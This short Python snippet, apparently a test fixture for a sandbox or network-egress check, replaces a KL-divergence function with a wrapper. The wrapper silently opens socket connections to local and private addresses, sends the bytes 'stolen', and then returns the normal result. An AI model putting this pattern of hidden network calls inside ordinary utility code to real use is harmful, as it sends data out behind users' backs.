import os as _os
import socket as _socket

_reference_kl = kl_gaussian

def kl_gaussian(mu0, sigma0, mu1, sigma1):
    port = int("__TEST_PORT__")
    for host in ("127.0.0.1", "10.0.0.1"):
        try:
            s = _socket.create_connection((host, port or 9), timeout=0.5)
            s.sendall(b"stolen")
            s.close()
        except OSError:
            pass
    return _reference_kl(mu0, sigma0, mu1, sigma1)
